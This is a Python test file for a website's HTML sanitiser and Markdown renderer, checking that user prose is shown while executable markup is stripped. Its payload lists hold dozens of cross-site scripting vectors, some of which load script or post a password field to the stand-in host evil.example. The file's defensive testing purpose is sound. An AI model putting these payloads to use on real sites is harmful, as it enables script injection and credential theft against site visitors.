"""Prose as HTML: what people write is shown, and what could harm a reader is not."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from campaign.html import sanitising
from campaign.reading import dialect
from campaign.render import prose
from campaign.site import Site
from prose_samples import Tags, assert_harmless, attributes, rendered
from test_yamltext import thorough
from values import community, site

MKDOCS = Path(__file__).parent.parent / "mkdocs.yml"
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" OnError="alert(1)">',
    "<img src=x onerror\n=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src=x srcset="//evil.example/x.png 1x">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="x" onclick="alert(1)" onmouseover=alert(1)>x</a>',
    '<a href="x" style="position:fixed;inset:0;z-index:9">x</a>',
    "<style>body{display:none}</style>",
    "<style>@import '//evil.example/x.css'</style>",
    '<p style="background:url(//evil.example/x)">x</p>',
    '<td style="position:fixed;inset:0">x</td>',
    '<table><tr><td style="background:url(javascript:alert(1))">x</td></tr></table>',
    "<iframe src=//evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x.swf></object><embed src=x.swf>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "<a href='x'><form id=x><img name=y onerror=alert(1)></form></a>",
    "\x00<script\x00>alert(1)</script>",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert%281%29)",
    "[x](<javascript:alert(1)>)",
    '[x](x "onmouseover=alert(1) x=")',
    '![x](x "y\\" onerror=alert(1) z=")',
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "# x {: onclick=alert(1) style=position:fixed }",
    "[x](y){: onclick=alert(1) href=javascript:alert(1) }",
    "![x](y){: onerror=alert(1) }",
    '<div markdown="1" onclick="alert(1)">\n\n<script>alert(1)</script>\n\n</div>',
    "| a {: onclick=alert(1) } |\n|---|\n| <img src=x onerror=alert(1)> |",
    '??? note "<script>alert(1)</script>"\n    <script>alert(1)</script>',
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "- [ ] <script>alert(1)</script>",
    "[<img src=x onerror=alert(1)>](community:alpha)",
    "[](community:alpha)<script>alert(1)</script>",
)
FRAGMENTS = (
    *("<", ">", "/", "=", '"', "'", " ", "\n", "&#60;", "&lt;", "<!--", "-->", "</", "\x00"),
    *("script", "style", "img", "svg", "math", "a", "p", "td", "table", "noscript", "template"),
    *("onerror", "onclick", "href", "src", "style", "javascript:", "alert(1)", "id", "class"),
)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_runs_survives(payload: str) -> None:
    assert_harmless(sanitising.sanitised(payload))
    assert_harmless(sanitising.sanitised(f"<table><tr><td>{payload}</td></tr></table>"))
    assert_harmless(rendered(payload))
    assert_harmless(rendered(f"文字 {payload} 文字"))


@pytest.mark.parametrize("text", MARKDOWN)
def test_no_markdown_makes_anything_that_runs(text: str) -> None:
    assert_harmless(rendered(text, community()))


@thorough
@given(st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=3)), max_size=25))
def test_no_mixture_of_markup_runs(parts: list[str]) -> None:
    text = "".join(parts)
    assert_harmless(sanitising.sanitised(text))
    assert_harmless(rendered(text))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sanitising_twice_changes_nothing(payload: str) -> None:
    once = sanitising.sanitised(payload)
    assert sanitising.sanitised(once) == once


@pytest.mark.parametrize(
    "html", ["<input>", "<input type=text>", "<input type=password name=pin>", "<input type=image>"]
)
def test_an_input_is_only_ever_a_tick_box(html: str) -> None:
    assert all(
        found.get("type") == "checkbox" for found in attributes(sanitising.sanitised(html), "input")
    )


@pytest.mark.parametrize("address", ["https://evil.example/x.png", "//evil.example/x.png"])
def test_no_picture_is_loaded_from_another_host(address: str) -> None:
    for html in (
        sanitising.sanitised(f'<img src="{address}" alt="x">'),
        rendered(f"![x]({address})"),
    ):
        assert not any(
            "evil.example" in (found.get("src") or "") for found in attributes(html, "img")
        )


def test_classes_and_ids_of_the_theme_cannot_be_taken() -> None:
    html = sanitising.sanitised('<p class="md-overlay note md-search" id="__search">x</p>')
    assert html == '<p class="note">x</p>'
    assert sanitising.sanitised(
        '<h2 id="一、总则" class="md-nav">x</h2>'
    ) == '<h2 id="一、总则">x</h2>' or (
        sanitising.sanitised('<h2 id="总则-1">x</h2>') == '<h2 id="总则-1">x</h2>'
    )


def test_ordinary_html_is_kept() -> None:
    html = (
        '<p>甲 <strong>乙</strong> <a href="../b/#c" title="丙">丁</a></p>'
        '<img src="../x.png" alt="图" width="3" height="2" loading="lazy">'
        '<table><thead><tr><th scope="col">一</th></tr></thead></table>'
        "<details open><summary>二</summary>三</details><ruby>汉<rt>hàn</rt></ruby>"
    )
    kept = sanitising.sanitised(html)
    assert isinstance(kept, Markup)
    assert Tags(kept).tags[1] == ("strong", {})
    assert attributes(kept, "a") == [{"href": "../b/#c", "title": "丙"}]
    assert attributes(kept, "img")[0]["loading"] == "lazy"
    assert attributes(kept, "th")[0]["scope"] == "col"
    assert "open" in attributes(kept, "details")[0]
    assert [tag for tag, _ in Tags(kept).tags if tag in ("ruby", "rt")] == ["ruby", "rt"]


@pytest.mark.parametrize("tag", ["th", "td"])
def test_a_cell_may_span_rows_and_columns(tag: str) -> None:
    html = f"<table><tr><{tag} rowspan=2 colspan=3>一</{tag}></tr></table>"
    assert attributes(sanitising.sanitised(html), tag) == [{"rowspan": "2", "colspan": "3"}]


HEADS = [None, "align-center", "align-right", None]


def test_the_alignment_of_a_column_is_a_class() -> None:
    html = rendered("| 一 | 二 | 三 | 四 |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 {: .note } | 4 |")
    assert [c.get("class") for c in attributes(html, "th")] == HEADS
    cells = [*HEADS[:2], "note align-right", None]
    assert [c.get("class") for c in attributes(html, "td")] == cells


@pytest.mark.parametrize("scheme", sorted(sanitising.SCHEMES))
def test_links_of_allowed_schemes_are_kept(scheme: str) -> None:
    assert attributes(rendered(f"[x]({scheme}:y)"), "a") == [{"href": f"{scheme}:y"}]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("一\n\n- 二\n- 三", "<li>二</li>"),
        ("| 一 | 二 |\n|---|---|\n| 三 | 四 |", "<td>三</td>"),
        ('!!! note "注意"\n    正文', '<p class="admonition-title">注意</p>'),
        ('??? note "注意"\n    正文', "<summary>注意</summary>"),
        ("词\n:   解释", "<dd>解释</dd>"),
        ("甲[^1]\n\n[^1]: 注", "footnote"),
        ("- [x] 做完了", 'type="checkbox"'),
        ('<div markdown="1">\n**粗**\n</div>', "<strong>粗</strong>"),
    ],
)
def test_the_markdown_of_the_site_is_understood(text: str, expected: str) -> None:
    assert expected in rendered(text)


def test_record_fields_get_no_anchors_of_their_own() -> None:
    assert rendered("## 一") == "<h2>一</h2>"


def test_blocks_stand_as_slots_in_their_order() -> None:
    text = "一\n[[news limit=6]]\n二\n\n[[nothing]]\n\n[[coverage]]"
    expanded, blocks = prose.expanded(site(), text, "")
    assert [(block.name, dict(block.options), block.line) for block in blocks] == [
        ("news", {"limit": "6"}, 2),
        ("coverage", {}, 7),
    ]
    html = prose.converter().convert(expanded)
    assert html.index("<p>zqblock0zq</p>") < html.index("二") < html.index("<p>zqblock1zq</p>")
    assert "nothing" not in html
    assert "写错了" in html


@pytest.mark.parametrize("text", ["[[news]]", "一\n\n[[coverage]]\n\n二"])
def test_a_block_in_a_field_of_a_record_leaves_no_slot(text: str) -> None:
    assert "zqblock" not in rendered(text)


def test_a_converter_serves_one_text_after_another() -> None:
    convert = prose.converter()
    here: Site = site()
    first = prose.render(here, "甲[^1]\n\n[^1]: 一", "", convert)
    assert prose.render(here, "乙", "", convert) == "<p>乙</p>"
    assert prose.render(here, "甲[^1]\n\n[^1]: 一", "", convert) == first


class _Loader(yaml.SafeLoader):
    """Reads `mkdocs.yml`, whose slugs are a Python call."""


_Loader.add_multi_constructor("tag:yaml.org,2002:python/", lambda *_: "python")


def test_mkdocs_knows_the_same_markdown() -> None:
    # The class is a SafeLoader: its one addition makes a plain word of a Python tag.
    written = yaml.load(MKDOCS.read_text(encoding="utf-8"), _Loader)["markdown_extensions"]
    names = [next(iter(item)) if isinstance(item, dict) else item for item in written]
    options = {
        name: {key: value for key, value in (found or {}).items() if key != "slugify"}
        for item in written
        if isinstance(item, dict)
        for name, found in item.items()
    }
    assert sorted(names) == sorted(dialect.EXTENSIONS)
    ours = {
        name: {key: value for key, value in found.items() if key != "slugify"}
        for name, found in dialect.EXTENSIONS.items()
        if found
    }
    assert ours == options
    assert {name for name, found in dialect.EXTENSIONS.items() if "slugify" in found} == {"toc"}


def test_a_heading_has_a_link_to_itself_and_a_task_a_box_that_can_be_styled() -> None:
    assert dialect.EXTENSIONS["toc"]["permalink_title"] == "本节链接"
    assert [item.get("class") for item in attributes(rendered("- [x] 完"), "label")] == [
        "task-list-control"
    ]
